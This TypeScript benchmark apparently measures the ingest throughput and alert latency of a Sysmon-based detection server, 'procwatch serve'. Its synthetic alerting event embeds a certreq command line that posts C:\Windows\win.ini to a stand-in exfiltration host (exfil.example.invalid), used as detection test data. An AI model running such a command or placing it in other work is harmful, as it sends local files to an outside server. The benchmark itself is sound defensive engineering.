/**
 * `procwatch serve` under load: the server in one process (the real CLI, default durability: WAL +
 * synchronous=FULL, group commit), load from this process over loopback.
 *   1. Sustained ingest: batches of 1,000 Sysmon EID 1 events (1% certreq matches) on 8 connections,
 *      events/s acknowledged (= decoded, detected, committed).
 *   2. Latency at a fixed 5,000 events/s (open loop: 100 requests/s of 50 events, sent on schedule whatever
 *      the answers): request → 2xx (alert committed) and request → the alert arriving on the SSE stream.
 * Env: BENCH_SERVE_EVENTS (sustained total, default 200000), BENCH_SERVE_SECONDS (latency run, default 10),
 * BENCH_SERVE_DURABILITY=normal to measure synchronous=NORMAL.
 */
import { spawn, type ChildProcess } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { REPO, fmt } from './lib.js';

const TOKEN = 'bench-token-0123456789abcdef';
const AUTH = { authorization: `Bearer ${TOKEN}` };
const TOTAL = Number(process.env.BENCH_SERVE_EVENTS ?? 200_000);
const LATENCY_SECONDS = Number(process.env.BENCH_SERVE_SECONDS ?? 10);

/**
 * The benchmark's own fixed event (not the tests' builder): its size and fields must stay the same from run to run
 * so that figures in the README stay comparable.
 */
function event(recordId: number, host: string, match: boolean): string {
  const image = match ? 'C:\\Windows\\System32\\certreq.exe' : 'C:\\Program Files\\App\\worker.exe';
  const cmd = match
    ? `certreq -Post -config https://exfil.example.invalid/u${recordId} C:\\Windows\\win.ini C:\\Users\\Public\\o.txt`
    : `"C:\\Program Files\\App\\worker.exe" --job ${recordId} --queue default`;
  return JSON.stringify({
    Event: {
      System: {
        Provider: { '#attributes': { Name: 'Microsoft-Windows-Sysmon', Guid: '5770385F-C22A-43E0-BF4C-06F5698FFBD9' } },
        EventID: 1,
        Version: 5,
        Level: 4,
        Task: 1,
        TimeCreated: { '#attributes': { SystemTime: new Date(Date.UTC(2024, 4, 1) + recordId).toISOString() } },
        EventRecordID: recordId,
        Execution: { '#attributes': { ProcessID: 2144, ThreadID: 3012 } },
        Channel: 'Microsoft-Windows-Sysmon/Operational',
        Computer: host,
        Security: { '#attributes': { UserID: 'S-1-5-18' } },
      },
      EventData: {
        RuleName: '-',
        UtcTime: '2024-05-01 10:00:00.000',
        ProcessGuid: `84453EAB-30C2-5FC8-B4AA-${recordId.toString(16).padStart(12, '0')}`,
        ProcessId: 1000 + (recordId % 60000),
        Image: image,
        OriginalFileName: match ? 'CertReq.exe' : 'worker.exe',
        CommandLine: cmd,
        CurrentDirectory: 'C:\\Windows\\system32\\',
        User: 'CORP\\svc-app',
        LogonId: '0x3e7',
        IntegrityLevel: 'System',
        Hashes: 'SHA256=9F2B4C6D8E0A1B3C5D7E9F1A2B4C6D8E0A1B3C5D7E9F1A2B4C6D8E0A1B3C5D7E',
        ParentProcessGuid: '84453EAB-30C2-5FC8-00A8-080200000000',
        ParentProcessId: 700,
        ParentImage: 'C:\\Windows\\System32\\services.exe',
        ParentCommandLine: 'C:\\Windows\\system32\\services.exe',
      },
    },
  });
}

function batch(first: number, n: number, host: string, matchEvery: number): string {
  const lines: string[] = [];
  for (let i = 0; i < n; i++) lines.push(event(first + i, host, (first + i) % matchEvery === 0));
  return lines.join('\n') + '\n';
}

async function startServer(dataDir: string): Promise<{ child: ChildProcess; url: string }> {
  const args = ['--import', 'tsx', join(REPO, 'bench', 'serve-child.ts'), '--port', '0', '--data', dataDir, '--token', TOKEN];
  if (process.env.BENCH_SERVE_DURABILITY === 'normal') {
    const cfg = join(dataDir, 'serve.yml');
    writeFileSync(cfg, 'durability: normal\n');
    args.push('--config', cfg);
  }
  const child = spawn(process.execPath, args, { cwd: REPO, stdio: ['ignore', 'ignore', 'pipe'] });
  let err = '';
  const url = await new Promise<string>((resolve, reject) => {
    child.stderr!.on('data', (c: Buffer) => {
      err += c.toString();
      const m = /listening on (http:\/\/[\d.]+:\d+)/.exec(err);
      if (m) resolve(m[1]!);
    });
    child.on('exit', (code) => reject(new Error(`server exited ${code}: ${err}`)));
  });
  return { child, url };
}

function pct(sorted: number[], p: number): number {
  return sorted.length === 0 ? NaN : sorted[Math.min(sorted.length - 1, Math.floor((p / 100) * sorted.length))]!;
}

/** CPU seconds (user + system, all threads) the server has used so far: less sensitive to a busy machine than wall time. */
function cpuSeconds(pid: number): number {
  try {
    const f = readFileSync(`/proc/${pid}/stat`, 'utf8').split(') ')[1]!.split(' ');
    return (Number(f[11]) + Number(f[12])) / 100;
  } catch {
    return NaN;
  }
}

function peakRssMb(pid: number): number {
  try {
    const m = /VmHWM:\s+(\d+) kB/.exec(readFileSync(`/proc/${pid}/status`, 'utf8'));
    return m ? Number(m[1]) / 1024 : NaN;
  } catch {
    return NaN;
  }
}

async function sustained(url: string, pid: number): Promise<void> {
  const PER = 1000;
  const CONNS = 8;
  const bodies: string[] = [];
  for (let i = 0; i < TOTAL / PER; i++) bodies.push(batch(1 + i * PER, PER, `WS${String(i % 200).padStart(4, '0')}`, 100));
  const bytes = bodies.reduce((s, b) => s + Buffer.byteLength(b), 0);
  let nextBody = 0;
  let acked = 0;
  let rejected = 0;
  const cpu0 = cpuSeconds(pid);
  const t0 = performance.now();
  await Promise.all(
    Array.from({ length: CONNS }, async () => {
      while (nextBody < bodies.length) {
        const body = bodies[nextBody++]!;
        for (;;) {
          const r = await fetch(`${url}/ingest`, { method: 'POST', headers: { ...AUTH, 'content-type': 'application/x-ndjson' }, body });
          await r.arrayBuffer();
          if (r.status === 200) break;
          if (r.status !== 429) throw new Error(`ingest ${r.status}`);
          rejected++;
          await new Promise((res) => setTimeout(res, 50));
        }
        acked += PER;
      }
    }),
  );
  const s = (performance.now() - t0) / 1000;
  const cpu = cpuSeconds(pid) - cpu0;
  console.log(
    `sustained ingest: ${fmt(acked, 0)} events (${fmt(bytes / 2 ** 20)} MiB NDJSON, 1% alerting) in ${fmt(s, 2)} s → ` +
      `${fmt(acked / s, 0)} events/s, ${fmt(bytes / 2 ** 20 / s)} MiB/s acknowledged (decode + detect + commit); 429 retries: ${rejected}` +
      `  [target ≥ 30,000 events/s]`,
  );
  console.log(
    `  server CPU: ${fmt(cpu, 2)} s for ${fmt(acked, 0)} events = ${fmt((cpu / acked) * 1e6)} µs/event → ${fmt(acked / cpu, 0)} events per server CPU-second ` +
      `(main thread + store thread; the load generator runs on the same 2 cores)`,
  );
}

/** Cumulative buckets of the server's own ingest-latency histogram (request received → committed). */
async function serverBuckets(url: string): Promise<Map<string, number>> {
  const text = await (await fetch(`${url}/metrics`, { headers: AUTH })).text();
  const out = new Map<string, number>();
  for (const m of text.matchAll(/^procwatch_ingest_latency_seconds_bucket\{le="([^"]+)"\} (\d+)$/gm)) out.set(m[1]!, Number(m[2]));
  return out;
}

/** The bucket bound under which `p`% of the observations between two scrapes fall. */
function bucketQuantile(before: Map<string, number>, after: Map<string, number>, p: number): string {
  const total = (after.get('+Inf') ?? 0) - (before.get('+Inf') ?? 0);
  for (const [le, n] of after) {
    if (n - (before.get(le) ?? 0) >= (p / 100) * total) return le === '+Inf' ? '> 10 s' : `≤ ${fmt(Number(le) * 1000, 1)} ms`;
  }
  return '?';
}

async function latency(url: string): Promise<void> {
  const RATE = 5000;
  const PER = 50;
  const intervalMs = (PER / RATE) * 1000;
  const sent = new Map<string, number>();
  const sseLat: number[] = [];
  const ackLat: number[] = [];
  const ctl = new AbortController();
  const stream = await fetch(`${url}/api/stream`, { headers: AUTH, signal: ctl.signal });
  const reading = (async () => {
    const reader = stream.body!.pipeThrough(new TextDecoderStream()).getReader();
    let buf = '';
    try {
      for (;;) {
        const { value, done } = await reader.read();
        if (done) return;
        buf += value;
        let cut;
        while ((cut = buf.indexOf('\n\n')) >= 0) {
          const block = buf.slice(0, cut);
          buf = buf.slice(cut + 2);
          const host = /"host":"(LAT\d+)"/.exec(block)?.[1];
          const t = host ? sent.get(host) : undefined;
          if (t !== undefined) sseLat.push(performance.now() - t);
        }
      }
    } catch {
      /* aborted */
    }
  })();
  // The first 2 s run at the same rate but are not measured (JIT warm-up of a fresh process).
  const warm = Math.round((2 * RATE) / PER);
  const n = warm + Math.round((LATENCY_SECONDS * RATE) / PER);
  const base = 10_000_000;
  let before = new Map<string, number>();
  const t0 = performance.now();
  const inflight: Promise<void>[] = [];
  for (let i = 0; i < n; i++) {
    const due = t0 + i * intervalMs;
    const wait = due - performance.now();
    if (wait > 0) await new Promise((r) => setTimeout(r, wait));
    // One alerting event per request, on a host name that identifies the request.
    const host = `LAT${i}`;
    const body = batch(base + i * PER, PER, host, PER);
    const start = due; // measured from the scheduled time: a late send counts as latency (no coordinated omission)
    const measured = i >= warm;
    if (i === warm) before = await serverBuckets(url);
    if (measured) sent.set(host, start);
    inflight.push(
      fetch(`${url}/ingest`, { method: 'POST', headers: AUTH, body }).then(async (r) => {
        await r.arrayBuffer();
        if (r.status === 200 && measured) ackLat.push(performance.now() - start);
      }),
    );
  }
  await Promise.all(inflight);
  const after = await serverBuckets(url);
  const end = performance.now() + 2000;
  while (sseLat.length < n - warm && performance.now() < end) await new Promise((r) => setTimeout(r, 20));
  ctl.abort();
  await reading;
  const achieved = (n * PER) / ((performance.now() - t0) / 1000);
  const measuredN = n - warm;
  ackLat.sort((a, b) => a - b);
  sseLat.sort((a, b) => a - b);
  console.log(
    `fixed rate ${fmt(RATE, 0)} events/s for ${LATENCY_SECONDS} s after 2 s warm-up (${measuredN} requests × ${PER} events, 1 alert each; offered ${fmt(Math.min(achieved, RATE), 0)} events/s):`,
  );
  const line = (xs: number[]): string =>
    `p50 ${fmt(pct(xs, 50))} ms  p90 ${fmt(pct(xs, 90))} ms  p99 ${fmt(pct(xs, 99))} ms  max ${fmt(xs.at(-1) ?? NaN)} ms`;
  console.log(`  request → 2xx (alert committed):     ${line(ackLat)}  (${ackLat.length}/${measuredN} ok)  [target p99 < 100 ms]`);
  console.log(`  request → alert on the SSE stream:   ${line(sseLat)}  (${sseLat.length}/${measuredN} seen)`);
  console.log(
    `  server-side (received → committed, from /metrics buckets): p50 ${bucketQuantile(before, after, 50)}  p99 ${bucketQuantile(before, after, 99)}` +
      `  (the rest of the client-side figure is the client's own scheduling and the network stack on the busy host)`,
  );
}

const dataDir = mkdtempSync(join(tmpdir(), 'pw-bench-serve-'));
const { child, url } = await startServer(dataDir);
try {
  console.log(`server pid ${child.pid}, durability ${process.env.BENCH_SERVE_DURABILITY === 'normal' ? 'NORMAL' : 'FULL'}; figures are noisy on a shared 2-core machine (client and server share it)`);
  await sustained(url, child.pid!);
  await latency(url);
  console.log(`server peak RSS ${fmt(peakRssMb(child.pid!))} MiB`);
} finally {
  child.kill('SIGTERM');
  await new Promise((r) => child.once('exit', r));
  rmSync(dataDir, { recursive: true, force: true });
}
